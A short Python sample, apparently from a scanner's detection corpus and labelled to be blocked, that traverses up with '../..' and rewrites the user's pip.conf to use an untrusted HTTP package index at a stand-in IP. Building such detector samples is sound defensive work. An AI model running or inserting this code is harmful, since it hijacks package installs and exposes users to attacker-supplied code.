# pyguard-corpus: verdict=block category=filesystem rules=PG706
# what: climbs out of the working directory with "../.." and rewrites the user's pip configuration to use another index
import os

path = os.path.join("..", "..", ".config", "pip", "pip.conf")
os.makedirs(os.path.dirname(path), exist_ok=True)
with open(path, "w") as conf:
    conf.write("[global]\nindex-url = http://198.51.100.4/simple\ntrusted-host = 198.51.100.4\n")
